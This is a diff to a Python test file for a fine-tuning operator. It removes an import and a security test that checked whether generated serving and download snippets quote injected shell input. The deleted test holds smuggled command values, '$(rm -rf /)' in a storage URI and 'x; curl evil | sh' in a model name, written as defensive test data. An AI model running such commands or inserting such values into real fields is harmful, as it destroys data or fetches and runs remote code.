@@ -12,7 +12,6 @@ from finetune_operator.observe import documents, times, words
 from finetune_operator.observe.job import job
 from finetune_operator.reconcile.caches import Caches
 from finetune_operator.status import compose, results, size
-from finetune_operator.status.serving import snippets
 
 LIES = [
     b"",
@@ -67,13 +66,6 @@ def test_a_damaged_field_does_not_cost_the_others():
     assert results.lenient(Metrics, {"loss": "high", "perplexity": 3.0, "unknown": 1}) == Metrics(
         perplexity=3.0
     )
-
-
-def test_snippets_cannot_be_made_to_run_something_else():
-    evil = AdapterSeen(uri="s3://b/$(rm -rf /)", digest="d", type="LoRA", base_model="x; curl evil | sh")
-    found = snippets(evil, "job")
-    assert "'x; curl evil | sh'" in found["vllm"]
-    assert "'s3://b/$(rm -rf /)'" in found["download"]
 
 
 @pytest.mark.parametrize(
